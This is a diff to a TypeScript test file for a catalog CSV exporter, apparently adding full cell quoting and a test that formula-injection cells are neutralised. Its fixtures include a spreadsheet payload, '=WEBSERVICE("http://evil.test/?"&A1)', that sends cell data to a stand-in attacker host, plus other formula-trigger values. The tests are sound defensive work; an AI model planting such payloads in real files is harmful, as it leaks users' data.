@@ -8,7 +8,7 @@ import {
   readCatalogCsv,
 } from './catalog-csv';
 
-const HEADER = CATALOG_CSV_COLUMNS.join(',');
+const HEADER = CATALOG_CSV_COLUMNS.map((column) => `"${column}"`).join(',');
 
 const syrup = makeProduct({
   id: 'prod-1',
@@ -47,20 +47,37 @@ function rowFields(product: ReturnType<typeof makeProduct>) {
 
 describe('buildCatalogCsv (export)', () => {
   it('writes the header and one row per product', async () => {
-    const csv = await buildCatalogCsv([syrup, machine]);
-    const lines = csv.split('\r\n');
+    const csv = buildCatalogCsv([syrup, machine]);
+    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
     expect(lines[0]).toBe(HEADER);
     expect(csv).toContain(
-      'SYR-PURPLE,Purple Dream Syrup,Syrups,"Grape, ""the"" classic\nNow in 1L"',
+      '"SYR-PURPLE","Purple Dream Syrup","Syrups","Grape, ""the"" classic\nNow in 1L"',
     );
-    expect(csv).toContain('24:27.99|48:25.99,60:22.99,6,12,120,true,10');
+    expect(csv).toContain('"24:27.99|48:25.99","60:22.99","6","12","120","true","10"');
     // A cell a spreadsheet would run as a formula is neutralised.
-    expect(csv).toContain(`MACH-PRO,"'=HYPERLINK(""evil"")"`);
+    expect(csv).toContain(`"MACH-PRO","'=HYPERLINK(""evil"")"`);
+  });
+
+  it('quotes and neutralises every hostile cell, and imports them back unchanged', async () => {
+    const hostile = makeProduct({
+      id: 'prod-3',
+      sku: 'HOSTILE-1',
+      name: 'Acme;=WEBSERVICE("http://evil.test/?"&A1)',
+      category: '+Syrups',
+      description: '@SUM(A1)\t-1',
+    });
+    const csv = buildCatalogCsv([hostile]);
+    expect(csv).toContain(
+      `"HOSTILE-1","Acme;=WEBSERVICE(""http://evil.test/?""&A1)","'+Syrups","'@SUM(A1)\t-1"`,
+    );
+    const plan = await readCatalogCsv(csv, [hostile]);
+    expect(plan.errors).toEqual([]);
+    expect(plan.rows.map((r) => r.row)).toEqual([rowFields(hostile)]);
   });
 
   it('re-imports identically: every row updates its product and changes nothing', async () => {
     const products = [syrup, machine];
-    const plan = await readCatalogCsv(await buildCatalogCsv(products), products);
+    const plan = await readCatalogCsv(buildCatalogCsv(products), products);
     expect(plan.errors).toEqual([]);
     expect(plan).toMatchObject({ created: 0, updated: 2 });
     expect(plan.rows.map((r) => [r.line, r.action, r.productId])).toEqual([
@@ -77,8 +94,8 @@ describe('buildCatalogCsv (export)', () => {
 
   it('leaves a missing wholesale price empty (the import then asks for it)', async () => {
     const unpriced = makeProduct({ sku: 'NOPRICE', price_wholesaler: null });
-    const csv = await buildCatalogCsv([unpriced]);
-    expect(csv.split('\r\n')[1]).toContain(',29.99,,');
+    const csv = buildCatalogCsv([unpriced]);
+    expect(csv.split('\r\n')[1]).toContain(',"29.99","",');
     const plan = await readCatalogCsv(csv, [unpriced]);
     expect(plan.errors).toEqual([
       { line: 2, sku: 'NOPRICE', message: expect.stringContaining('price_wholesaler') },
